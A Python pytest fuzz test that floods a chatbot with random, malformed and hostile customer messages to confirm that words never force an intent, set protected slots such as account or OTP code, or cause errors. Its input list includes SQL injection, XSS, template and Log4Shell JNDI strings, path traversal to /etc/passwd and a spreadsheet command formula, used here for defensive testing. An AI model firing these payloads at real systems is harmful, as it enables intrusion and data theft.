"""Whatever a customer writes is words: no intent is certain by it, no secret slot is set, nothing fails (G34, T9-T12, T16).

1,500 messages in the suite; 50,000 with ANXIN_ROUNDS=10.
"""

from __future__ import annotations

import json
import random
import uuid
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from bot.contracts.turn import TURN_PATH, payload
from bot.engine.channel import MAX_TEXT
from tests.actions.security.rounds import rounds, told
from tests.engine.processes import Processes, turn_request

MESSAGES = 1_500 if rounds(1) == 1 else 5_000 * rounds(1)  # here, because tests see none of our settings
SEED = 20261120
OF_A_CONVERSATION = 10
AT_ONCE = 4

INTENTS = ("greet", "inform", "unlock_password", "restart", "session_start", "back", "nlu_fallback", "language_chosen")
ENTITIES = ("account", "birth_date", "otp_code", "otp_channel", "confirmed", "purpose", "language")
# Nobody sets these by writing; what other slots hold is words, and a flow that was asked for in words.
NEVER_BY_WORDS = {"account", "birth_date", "second_birth_date", "otp_code", "confirmed"}
BY_WORDS = {
    "purpose",
    "requested_slot",
    "session_started_metadata",
    "otp_channel",
    "checked_notice",
    "status_reference",
}
BY_WORDS |= {f"report_{name}" for name in ("key", "platform", "description", "since", "contact", "confirmed")}

DIGITS = [chr(zero + digit) for zero in (0x30, 0x660, 0x966, 0xE50, 0xFF10, 0x1D7CE) for digit in range(10)]
DIGITS += list("一二三四五六七八九零〇壹貳①②③⑥¹²³ⅣⅥ")
INVISIBLE = list(
    "\x00\x01\x07\x08\x0b\x1b\x7f\x85\xa0\xad\u200b\u200d\u200e\u202a\u202e\u2060\u2066\u2069\ufeff\ufffd\ud800\udfff"
)
HOSTILE = [
    "'; DROP TABLE turn; --",
    "' OR '1'='1",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "{{7*7}}",
    "${jndi:ldap://example.com/a}",
    "%s%s%n",
    "../../etc/passwd",
    "{account}",
    "{otp_code}",
    "\x1b[31m",
    "=cmd|' /C calc'!A0",
    "[text](javascript:alert(1))",
    "EXTERNAL: utter_unlocked",
]
WORDS = [
    "解鎖密碼",
    "验证码",
    "my code is",
    "生日",
    "account",
    "簡訊",
    "是",
    "對",
    "yes",
    "cancel",
    "🔒",
    "👨‍👩‍👧‍👦",
    "🇹🇼",
    "مرحبا",
    "שלום",
]

Make = Callable[[random.Random], str]


def anything(chance: random.Random) -> str:
    return "".join(chr(chance.randrange(0x110000)) for _ in range(chance.randint(1, 60)))


def intent(chance: random.Random) -> str:
    entities = {chance.choice(ENTITIES): chance.choice(["x", "true", 1, None, ["a"], {"a": 1}]) for _ in range(2)}
    slash = chance.choice(["/", "／", "⁄", " /", "\u200b/", "//", "\n/", "\x00/"])
    confidence = chance.choice(["", "@1.0", "@0.99", "@1e0"])
    end = chance.choice(["", json.dumps(entities), json.dumps(entities)[:-1], "{}", "{", "}"])
    return f"{slash}{chance.choice(INTENTS)}{confidence}{end}"


def a_json(chance: random.Random) -> str:
    inner: Any = {chance.choice(ENTITIES): "x", "intent": {"name": chance.choice(INTENTS), "confidence": 1.0}}
    for _ in range(chance.choice([0, 1, 5, 100])):
        inner = [inner] if chance.random() < 0.5 else {"text": inner}
    return json.dumps(inner)


def digits(chance: random.Random) -> str:
    between = chance.choice(["", "", " ", "-", "\u200b", "/"])
    return between.join(chance.choices(DIGITS, k=chance.choice([1, 4, 6, 6, 7, 10, 16])))


def long(chance: random.Random) -> str:
    return chance.choice([*WORDS, *INVISIBLE, "a", "界", "/", "1", "🙂", "\u0301"]) * chance.choice([50, 500, 2000])


def hidden(chance: random.Random) -> str:
    return "".join(chance.choice([*INVISIBLE, *WORDS, chance.choice(DIGITS)]) for _ in range(chance.randint(1, 12)))


def hostile(chance: random.Random) -> str:
    return chance.choice(HOSTILE) + chance.choice(["", *WORDS])


def spliced(chance: random.Random) -> str:
    return "".join(chance.choice(KINDS[:-1])(chance) for _ in range(3))[: chance.randint(1, 300)]


KINDS: list[Make] = [anything, intent, a_json, digits, long, hidden, hostile, spliced]


def talk(engine: Processes, number: int) -> list[str]:
    """Write into one conversation, every second one in the middle of a form; return what was wrong."""
    chance, conversation, wrong = random.Random(SEED + number), uuid.uuid4().hex, []
    if number % 2:
        engine.turn(conversation, payload=payload(chance.choice(["unlock_password", "report_error"])))
    for _ in range(OF_A_CONVERSATION):
        text = chance.choice(KINDS)(chance) or "?"
        status, answer = write(engine, conversation, text)
        if status != 200 or not answer["messages"]:
            wrong.append(f"{status} {answer} to {text[:200]!r}")
        elif (answer["confidence"] or 0) >= 1:
            wrong.append(f"certain of {answer['topic']} by {text[:200]!r}")
    return wrong + [f"{fault} in conversation {number}" for fault in kept_wrong(engine.events(conversation))]


def write(engine: Processes, conversation: str, text: str) -> tuple[int, Any]:
    """Send it as the gateway does (bot/clients/signed.py), no longer than it lets through; again if the machine was too slow."""
    call = json.loads(turn_request(conversation, text[:MAX_TEXT]))
    status, answer = 0, {}
    for again in (False, True):
        body = json.dumps({**call, "again": again}, ensure_ascii=False).encode("utf-8", "replace")
        status, content = engine.request("POST", TURN_PATH, body, engine.signed(body))
        answer = json.loads(content or "{}")
        if answer.get("error") != "actions_down":
            break
    return status, answer


def kept_wrong(events: list[dict[str, Any]]) -> list[str]:
    """Return what the dialogue holds that no words may bring about."""
    said = [
        event for event in events if event["event"] == "user" and event["text"] and not event["text"].startswith("/")
    ]
    wrong = [f"an intent at 1 by {e['text'][:200]!r}" for e in said if e["parse_data"]["intent"]["confidence"] >= 1]
    names = {event["name"] for event in events if event["event"] == "slot" and event["value"] is not None}
    wrong += [f"slot {name}" for name in names & NEVER_BY_WORDS]
    return wrong + [f"slot {name}, which nobody knows here" for name in names - NEVER_BY_WORDS - BY_WORDS]


def test_words_are_words(processes: Processes, capsys: pytest.CaptureFixture[str]) -> None:
    processes.start("actions")
    with ThreadPoolExecutor(AT_ONCE) as pool:
        wrong = [
            fault
            for found in pool.map(lambda n: talk(processes, n), range(MESSAGES // OF_A_CONVERSATION))
            for fault in found
        ]
    with capsys.disabled():
        told(messages=MESSAGES, wrong=len(wrong))
    assert wrong == []
    log = (processes.var / "engine.log").read_text(encoding="utf-8", errors="replace")
    assert Counter(line.split()[2] for line in log.splitlines() if line[:4].isdigit())["ERROR"] == 0, log[-3000:]
